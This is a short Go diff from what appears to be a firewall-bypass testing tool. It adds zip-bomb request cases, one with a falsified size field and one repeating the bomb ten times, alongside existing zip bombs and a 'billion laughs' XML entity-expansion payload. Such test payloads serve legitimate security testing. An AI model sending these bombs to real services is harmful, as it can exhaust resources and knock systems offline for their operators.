@@ -500,6 +500,8 @@ func lastly() []bypass {
 	all = append(all, bypass{family: "bomb", name: "zip", alone: true, request: post("application/zip", zipBomb(bomb, false))})
 	all = append(all, bypass{family: "bomb", name: "zip, size behind", alone: true, request: post("application/zip", zipBomb(bomb, true))})
 	all = append(all, bypass{family: "bomb", name: "zip in multipart", alone: true, request: fileUpload("a.zip", "application/zip", zipBomb(bomb, false))})
+	all = append(all, bypass{family: "bomb", name: "zip, lies", alone: true, request: post("application/zip", strings.Replace(zipBomb(bomb, false), "\x00\x00\x00\x04", "\x01\x00\x00\x00", 1))})
+	all = append(all, bypass{family: "bomb", name: "zip of many", alone: true, request: post("application/zip", strings.Repeat(zipBomb(bomb[:7<<20], false), 10))})
 	laughs := `<!DOCTYPE r [<!ENTITY a0 "lol">`
 	for i := range 9 {
 		laughs += fmt.Sprintf(`<!ENTITY a%d "%s">`, i+1, strings.Repeat(fmt.Sprintf("&a%d;", i), 10))
